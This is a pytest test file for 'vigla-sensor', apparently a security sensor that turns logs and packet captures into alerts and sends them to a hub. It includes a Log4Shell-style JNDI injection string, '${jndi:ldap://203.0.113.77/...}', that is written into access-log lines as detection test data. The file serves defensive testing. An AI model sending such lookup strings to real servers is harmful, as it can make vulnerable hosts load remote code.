"""`vigla-sensor` from files to documents and to a hub, with the real core and the project's own pack."""

import contextlib
import json
import sqlite3
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from scapy.layers.dns import DNS, DNSQR
from scapy.layers.inet import IP, UDP
from scapy.layers.l2 import Ether
from scapy.utils import wrpcap

from tests.contract.sink_suite import unpacked
from tests.sensor.support.http_server import Request, Response, Scripted, serve
from tests.sensor.support.rules import ROOT, vigla_pack
from vigla_sensor.cli import main
from vigla_sensor.run.wiring import only_one
from vigla_sensor.spool import read_status

__all__ = ["vigla_pack"]

SAMPLES = ROOT / "rules" / "pack" / "samples"
BRUTE_FORCE = (
    SAMPLES
    / "remote_access"
    / "device_login_success_after_failures"
    / "six_failures_at_the_firewall_then_a_success.log"
)
JNDI = (
    '198.51.100.{n} - - [02/Mar/2026:10:00:{s:02d} +0200] "GET /?x=${{jndi:ldap://203.0.113.77/{i}}} HTTP/1.1" '
    '200 5120 "-" "Mozilla/5.0"\n'
)


def hub_answer(request: Request) -> Response:
    if request.path.endswith("heartbeat"):
        return Response(200, b'{"jobs": [], "overlay": null}')
    ids = [json.loads(line)["event"]["id"] for line in unpacked(request).splitlines()]
    items = [{"id": each, "result": "created"} for each in ids]
    return Response(200, json.dumps({"items": items}).encode(), {"Content-Type": "application/json"})


@pytest.fixture
def hub() -> Iterator[Scripted]:
    with serve(hub_answer) as server:
        yield server


def received(hub: Scripted) -> list[dict[str, Any]]:
    requests = [each for each in hub.requests if each.path.endswith("alerts")]
    return [json.loads(line) for each in requests for line in unpacked(each).splitlines()]


def configured(folder: Path, hub_url: str, more: str = "") -> Path:
    (folder / "hub.credential").write_text("secret", encoding="utf-8")
    path = folder / "sensor.toml"
    path.write_text(
        f"""
[sensor]
id = "kalamata-1"
organization = {{id = "kalamata", name = "Δήμος Καλαμάτας"}}
[spool]
path = "spool.db"
min_free_bytes = 0
ballast_bytes = 0
{more}
[sinks.hub]
url = "{hub_url}"
credential = "file:hub.credential"
timeout_seconds = 5
""",
        encoding="utf-8",
    )
    return path


def replayed(capsysbinary: pytest.CaptureFixture[bytes], *arguments: str) -> list[dict[str, Any]]:
    assert main(["replay", *arguments, "--out", "-"]) == 0
    return [json.loads(line) for line in capsysbinary.readouterr().out.splitlines()]


def test_documents_validate_and_are_equal_for_equal_inputs(
    vigla_pack: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    paths = sorted(str(path) for path in SAMPLES.rglob("*.log"))
    first, second = (replayed(capsysbinary, *paths, "--pack", str(vigla_pack)) for _ in range(2))
    assert len(first) > 30
    text = (ROOT / "tests/contract/alert.schema.json").read_text(encoding="utf-8")
    schema = jsonschema.Draft202012Validator(json.loads(text), format_checker=jsonschema.FormatChecker())
    for document in first:
        schema.validate(document)
    sequences = [document["event"].pop("sequence") for document in first]
    assert sequences == sorted(set(sequences))
    for document in (*first, *second):
        document["event"].pop("created")
        document["event"].pop("sequence", None)
    assert first == second
    assert len({document["event"]["id"] for document in first}) == len(first)


def test_a_correlation_becomes_an_alert_about_its_group(
    vigla_pack: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    documents = replayed(capsysbinary, str(BRUTE_FORCE), "--pack", str(vigla_pack))
    (correlation,) = [each for each in documents if each["event"]["action"] == "correlation"]
    group = correlation["vigla"]["correlation"]["group"]
    assert correlation["vigla"]["entity"]["value"] in group.values()
    assert correlation["vigla"]["correlation"]["samples"]
    assert correlation["@timestamp"] == correlation["vigla"]["correlation"]["end"]


def test_delivers_through_the_spool_and_drains(vigla_pack: Path, hub: Scripted, tmp_path: Path) -> None:
    config = configured(tmp_path, hub.url)
    command = ["replay", str(BRUTE_FORCE), "--config", str(config), "--pack", str(vigla_pack)]
    assert main(command) == 0
    ids = [document["event"]["id"] for document in received(hub)]
    assert ids
    assert len(ids) == len(set(ids))
    assert {document["organization"]["id"] for document in received(hub)} == {"kalamata"}
    (beat,) = [json.loads(each.body) for each in hub.requests if each.path.endswith("heartbeat")]
    assert beat["spool"]["last_sequence"] == beat["sinks"]["hub"]["settled"]
    assert beat["counters"]["log.received"] >= 7
    # The same input again: known, nothing is sent twice.
    assert main(command) == 0
    assert len(received(hub)) == len(ids)
    status = read_status(tmp_path / "spool.db")
    assert status.violations == ()
    assert status.repeated == len(ids)


def test_a_hub_that_is_away_keeps_the_alerts_for_a_later_drain(
    vigla_pack: Path, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    with serve(hub_answer) as gone:
        url = gone.url
    config = configured(tmp_path, url)
    arguments = ["replay", str(BRUTE_FORCE), "--config", str(config), "--pack", str(vigla_pack), "--patience", "0.2"]
    assert main(arguments) == 1
    said = capsysbinary.readouterr().err.decode()
    assert "hub: no connection" in said
    assert "`vigla-sensor spool drain`" in said
    assert main(["spool", "status", "--config", str(config), "--json"]) == 0
    waiting = sum(json.loads(capsysbinary.readouterr().out)["sinks"]["hub"]["pending"].values())
    with serve(hub_answer) as back:
        config = configured(tmp_path, back.url)
        assert main(["spool", "drain", "--config", str(config)]) == 0
        assert len(received(back)) == waiting
    assert main(["spool", "status", "--config", str(config)]) == 0
    assert b"the books balance" in capsysbinary.readouterr().out


def test_rejected_alerts_are_redriven(
    vigla_pack: Path, hub: Scripted, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    def reject(request: Request) -> Response:
        items = json.loads(hub_answer(request).body)["items"]
        reason = {"type": "schema", "detail": "no", "retry": False}
        changed = [{"id": item["id"], "result": "rejected", "reason": reason} for item in items]
        return Response(200, json.dumps({"items": changed}).encode())

    hub.answer = reject
    config = str(configured(tmp_path, hub.url))
    assert main(["replay", str(BRUTE_FORCE), "--config", config, "--pack", str(vigla_pack)]) == 0
    dead = read_status(tmp_path / "spool.db").sinks["hub"].ranges["dead_lettered"]
    assert dead
    hub.answer = hub_answer
    assert main(["spool", "redrive", "--config", config, "--json"]) == 0
    moved = json.loads(capsysbinary.readouterr().out)["moved"]
    hub.requests.clear()
    assert main(["spool", "drain", "--config", config]) == 0
    assert len(received(hub)) == moved > 0


def test_a_full_spool_keeps_its_policy_and_its_books(
    vigla_pack: Path, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    log = tmp_path / "access.log"
    with log.open("w", encoding="utf-8") as lines:
        for i in range(3000):
            lines.write(JNDI.format(n=i % 7 + 1, s=i % 60, i=i))
    with serve(hub_answer) as gone:
        url = gone.url
    config = str(configured(tmp_path, url, "max_bytes = 1_500_000"))
    command = ["replay", str(log), "--config", config, "--pack", str(vigla_pack), "--patience", "0.1"]
    assert main(command) == 1
    status = read_status(tmp_path / "spool.db")
    assert status.violations == ()
    counted = status.sinks["hub"].counters[50]
    assert counted["folded"] > 2000
    assert counted.get("dropped", 0) == 0
    assert sum(path.stat().st_size for path in tmp_path.glob("spool.db*")) < 4_000_000
    with serve(hub_answer) as back:
        config = str(configured(tmp_path, back.url, "max_bytes = 1_500_000"))
        assert main(["spool", "drain", "--config", config]) == 0
        held = sum(each["vigla"].get("folded", {"count": 1})["count"] for each in received(back))
    assert held == 3000
    capsysbinary.readouterr()


def test_a_credential_the_hub_refuses_says_so_and_loses_nothing(
    vigla_pack: Path, hub: Scripted, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    hub.answer = lambda _: Response(401, b'{"status": 401, "title": "unknown credential: enrol the sensor"}')
    config = str(configured(tmp_path, hub.url))
    assert main(["replay", str(BRUTE_FORCE), "--config", config, "--pack", str(vigla_pack), "--patience", "0.2"]) == 1
    assert "hub: HTTP 401 : unknown credential: enrol the sensor" in capsysbinary.readouterr().err.decode()
    assert read_status(tmp_path / "spool.db").violations == ()


@pytest.mark.parametrize(
    ("spoil", "says"),
    [
        (lambda folder: (folder / "hub.credential").unlink(), "sinks.hub.credential: "),
        (lambda folder: (folder / "hub.credential").write_text(""), "must hold one credential"),
        (
            lambda folder: (folder / "sensor.toml").write_text("[sensr]\n", encoding="utf-8"),
            "sensor.toml:1: sensr: unknown key; did you mean 'sensor'?",
        ),
        (lambda folder: (folder / "sensor.toml").unlink(), "cannot be read"),
    ],
)
def test_a_wrong_configuration_is_usage(
    vigla_pack: Path, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes], spoil: Any, says: str
) -> None:
    config = str(configured(tmp_path, "http://127.0.0.1:9"))
    spoil(tmp_path)
    assert main(["replay", str(BRUTE_FORCE), "--config", config, "--pack", str(vigla_pack)]) == 2
    assert says in capsysbinary.readouterr().err.decode()


def test_an_altered_pack_is_refused(
    vigla_pack: Path, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    altered = tmp_path / "altered.vpk"
    with zipfile.ZipFile(vigla_pack) as old, zipfile.ZipFile(altered, "w") as new:
        for name in old.namelist():
            data = old.read(name)
            new.writestr(name, data.replace(b'"level":"', b'"level": "') if name == "rules.json" else data)
    assert main(["replay", str(BRUTE_FORCE), "--pack", str(altered)]) == 2
    said = capsysbinary.readouterr().err.decode()
    assert "rules.json: SHA-256" in said
    assert "altered or damaged" in said


def test_an_absent_input_is_said_before_anything_is_read(
    vigla_pack: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    assert main(["replay", str(BRUTE_FORCE), "no such file", "--pack", str(vigla_pack)]) == 2
    captured = capsysbinary.readouterr()
    assert b"no such file: no such file" in captured.err
    assert captured.out == b""


def test_a_spool_of_another_version_is_said(
    vigla_pack: Path, hub: Scripted, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    command = ["replay", str(BRUTE_FORCE), "--config", str(configured(tmp_path, hub.url)), "--pack", str(vigla_pack)]
    assert main(command) == 0
    with contextlib.closing(sqlite3.connect(tmp_path / "spool.db")) as connection, connection:
        connection.execute("UPDATE meta SET value = 99 WHERE key = 'schema'")
    assert main(command) == 2
    assert b"the spool has schema 99" in capsysbinary.readouterr().err


def test_a_spool_where_no_folder_can_be_is_said(
    vigla_pack: Path, hub: Scripted, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    config = configured(tmp_path, hub.url)
    (tmp_path / "file").touch()
    text = config.read_text(encoding="utf-8").replace('path = "spool.db"', 'path = "file/spool.db"')
    config.write_text(text, encoding="utf-8")
    assert main(["replay", str(BRUTE_FORCE), "--config", str(config), "--pack", str(vigla_pack)]) == 2
    assert b"spool.path: " in capsysbinary.readouterr().err


def _capture(path: Path, queries: int) -> None:
    """So many DNS queries from an inside host, composed here."""
    frames = [
        Ether(src="02:00:00:00:00:01", dst="02:00:00:00:00:02")
        / IP(src="10.0.0.5", dst="192.0.2.53", id=n)
        / UDP(sport=40000 + n, dport=53)
        / DNS(id=n, rd=1, qd=DNSQR(qname=f"host{n}.example"))
        for n in range(queries)
    ]
    for n, frame in enumerate(frames):
        frame.time = 1_795_392_000 + n
    wrpcap(str(path), frames)


def test_a_capture_cut_in_the_middle_is_read_up_to_there(
    vigla_pack: Path, tmp_path: Path, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    whole, cut = tmp_path / "whole.pcap", tmp_path / "cut.pcap"
    _capture(whole, 20)
    cut.write_bytes(whole.read_bytes()[:-30])
    counts = []
    for path in (whole, cut):
        assert main(["events", str(path)]) == 0
        captured = capfdbinary.readouterr()
        counts.append(sum(b'"_path":"dns"' in line for line in captured.out.splitlines()))
    assert counts == [20, 19]
    said = captured.err.decode()
    assert "cut.pcap" in said
    assert main(["replay", str(cut), "--pack", str(vigla_pack), "--out", "-"]) == 0
    assert "cut.pcap" in capfdbinary.readouterr().err.decode()


def test_a_file_that_is_not_a_capture_is_said_and_costs_no_other(
    tmp_path: Path, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    noise = tmp_path / "noise.pcap"
    noise.write_bytes(bytes(range(256)) * 20)
    assert main(["events", str(noise)]) == 1
    said = capfdbinary.readouterr().err.decode()
    assert "noise.pcap" in said


def test_one_spool_has_one_sender(vigla_pack: Path, hub: Scripted, tmp_path: Path) -> None:
    config = str(configured(tmp_path, hub.url))
    with only_one(tmp_path / "spool.db"):
        assert main(["replay", str(BRUTE_FORCE), "--config", config, "--pack", str(vigla_pack)]) == 2
    assert main(["replay", str(BRUTE_FORCE), "--config", config, "--pack", str(vigla_pack)]) == 0


def test_explain_shows_the_tree(vigla_pack: Path, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    (document, *_) = replayed(
        capsysbinary, str(SAMPLES / "web/web_jndi_injection/in_the_referrer.log"), "--pack", str(vigla_pack)
    )
    event = tmp_path / "event.json"
    event.write_text(json.dumps(document["vigla"]["event"]), encoding="utf-8")
    rule = document["rule"]["uuid"]
    assert main(["explain", str(event), "--pack", str(vigla_pack), "--rule", rule, "--json"]) == 0
    assert json.loads(capsysbinary.readouterr().out)["matches"]
    assert main(["explain", str(event), "--pack", str(vigla_pack), "--rule", "no-such-rule"]) == 1
    assert b"no-such-rule" in capsysbinary.readouterr().err


def test_events_are_written_in_zeeks_shape(
    vigla_pack: Path, tmp_path: Path, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    out = tmp_path / "events.jsonl"
    assert main(["events", str(BRUTE_FORCE), "--pack", str(vigla_pack), "--out", str(out)]) == 0
    events = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert len(events) >= 7
    assert all(next(iter(event)) == "_path" for event in events)
    assert main(["events", str(BRUTE_FORCE), "--pack", str(vigla_pack)]) == 0
    assert capfdbinary.readouterr().out == out.read_bytes()
    assert main(["events", str(BRUTE_FORCE), "--pack", str(vigla_pack), "--out", str(out), "--json"]) == 0
    assert json.loads(capfdbinary.readouterr().err.splitlines()[-1])["events"] == len(events)


def test_check_finds_all_faults_at_once(
    vigla_pack: Path, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    config = configured(tmp_path, "http://127.0.0.1:9")
    (tmp_path / "hub.credential").unlink()
    assert main(["check", "--config", str(config), "--json"]) == 1
    faults = {each["where"] for each in json.loads(capsysbinary.readouterr().out) if each["level"] == "fault"}
    assert faults == {"pack", "interfaces", "sinks"}
    (tmp_path / "hub.credential").write_text("secret")
    text = config.read_text(encoding="utf-8")
    log = tmp_path / "a.log"
    log.touch()
    config.write_text(f'{text}\n[pack]\npath = "{vigla_pack}"\n[[files]]\npath = "{log}"\n', encoding="utf-8")
    assert main(["check", "--config", str(config)]) == 0
    # A list that is not filled keeps its rules from firing: said, and no reason not to start.
    assert b"warning: pack: " in capsysbinary.readouterr().out


def test_help_names_every_command(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as left:
        main(["--help"])
    assert left.value.code == 0
    text = capsys.readouterr().out
    assert all(name in text for name in ("run", "replay", "events", "check", "spool", "explain"))
    with pytest.raises(SystemExit) as left:
        main(["replay"])
    assert left.value.code == 2
